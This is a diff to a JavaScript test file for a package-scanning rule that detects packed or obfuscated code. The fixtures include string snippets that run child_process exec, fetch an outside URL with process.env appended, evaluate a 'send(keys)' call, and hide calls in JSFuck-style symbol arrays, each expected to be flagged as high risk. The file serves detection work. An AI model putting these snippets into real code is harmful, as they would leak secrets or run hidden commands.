@@ -1,6 +1,7 @@
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
 import { said } from '#test/support/scan-package.js';
+import { rule as childProcess } from './child-process.rule.js';
 import { rule } from './packed-code.rule.js';
 
 test('bad: six symbols', () => {
@@ -28,4 +29,32 @@ test('good: pictures made of letters', () => {
 
 test('bad: symbols in a text that is a script', () => {
   assert.deepEqual(said(rule, { 'a.js': `run(\`${Array.from({ length: 60 }, () => '[+!+[]]+(![]+[])').join('+')}\`)` }), ['high a.js:1']);
+});
+
+const READABLE = 'class Tracked extends Promise { constructor(run) { super(run); this.calls = []; } then(done, failed) { this.calls.push([done, failed]); return super.then(done, failed); } } Tracked.count = 0; return Tracked;';
+
+test('good: code in a text that is read as a script of its own', () => {
+  assert.deepEqual(said(rule, { 'a.js': `const Tracked = Function(${JSON.stringify(READABLE)})();` }), ['low a.js:1']);
+  assert.deepEqual(said(rule, { 'a.js': `define("list", Function(["require", "module", "exports"], ${JSON.stringify(`${READABLE.replace('return Tracked;', 'exports.Tracked = Tracked; setTimeout(Tracked.run, 5);')}`)}));` }), ['low a.js:1']);
+});
+
+test('bad: code in a text that acts, gets something from outside, or cannot be read', () => {
+  const acting = 'const { exec } = require("child_process"); exec("id");';
+  for (const attack of [
+    `Function("require", ${JSON.stringify(`${acting}${READABLE}`)})(require)`,
+    `Function(${JSON.stringify(`return (x) => fetch("https://example.net/?" + x); ${READABLE}`)})()(process.env)`,
+    `Function("send", "keys", ${JSON.stringify(READABLE)})(fetch, process.env)`,
+    `Function(names, ${JSON.stringify(READABLE)})(fetch)`,
+    `eval(${JSON.stringify(READABLE.replace('return Tracked;', 'send(keys);'))})`,
+    `Function(${JSON.stringify(`${READABLE}\u0001`)})()`,
+  ]) assert.deepEqual(said(rule, { 'a.js': attack }), ['high a.js:1'], attack);
+  assert.ok(said(childProcess, { 'a.js': `eval(${JSON.stringify(`${acting.repeat(5)}\n//# sourceURL=webpack:///a.js`)})` }).length > 0, 'as bundlers write it');
+});
+
+const SIGNS = Array.from({ length: 120 }, (_, index) => `'[${'?!'.repeat(index % 3)}]'`).join(',');
+
+test('good: tables of signs; bad: the same where something is called', () => {
+  assert.deepEqual(said(rule, { 'a.js': `Object.defineProperty(exports, "__esModule", {}); module.exports = [${SIGNS}];` }), []);
+  assert.deepEqual(said(rule, { 'a.js': `$=[${SIGNS}];_($[+!+[]])` }), ['high a.js:1']);
+  assert.deepEqual(said(rule, { 'a.js': `$=[${SIGNS}];_\`\${$}\`` }), ['high a.js:1']);
 });
